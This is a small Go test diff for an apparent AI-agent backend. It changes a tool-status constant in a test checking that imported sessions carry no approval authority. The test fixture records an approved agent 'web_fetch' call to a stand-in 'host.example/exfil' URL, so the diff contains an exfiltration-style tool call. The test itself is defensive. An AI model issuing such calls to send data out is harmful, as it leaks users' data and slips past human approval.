@@ -9,6 +9,7 @@ import (
 	"testing"
 
 	"pilot/backend/llm"
+	"pilot/backend/wire"
 )
 
 func TestExportImportRoundTrip(t *testing.T) {
@@ -116,7 +117,7 @@ func TestImportCarriesNoAuthority(t *testing.T) {
 	fetch := func(sessionID int64, id string) {
 		m := must[Message](t)(s.Messages.Append(ctx, sessionID, llm.Message{Role: llm.RoleAssistant,
 			Content: []llm.ContentBlock{toolUse(id, "web_fetch", `{"url":"http://host.example/exfil"}`)}}, llm.Usage{}))
-		must[ToolCall](t)(s.ToolCalls.Insert(ctx, ToolCall{SessionID: sessionID, MessageID: m.ID, Call: Call{ToolUseID: id, Name: "web_fetch", Input: []byte(`{"url":"http://host.example/exfil"}`), Status: ToolDone, Approval: ApprovalApproved}}))
+		must[ToolCall](t)(s.ToolCalls.Insert(ctx, ToolCall{SessionID: sessionID, MessageID: m.ID, Call: Call{ToolUseID: id, Name: "web_fetch", Input: []byte(`{"url":"http://host.example/exfil"}`), Status: wire.ToolDone, Approval: ApprovalApproved}}))
 		must[Message](t)(s.Messages.Append(ctx, sessionID, llm.Message{Role: llm.RoleUser,
 			Content: []llm.ContentBlock{toolResult(id, "page")}}, llm.Usage{}))
 	}
